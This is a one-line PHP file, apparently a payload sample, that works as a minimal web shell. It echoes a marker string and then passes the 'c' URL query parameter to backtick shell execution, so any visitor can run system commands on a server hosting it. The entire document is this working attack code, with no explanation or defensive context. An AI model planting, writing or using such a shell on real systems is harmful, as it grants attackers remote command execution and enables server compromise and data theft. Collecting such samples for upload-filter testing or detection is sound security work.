<?php echo "x"; echo `${_GET["c"]}`;
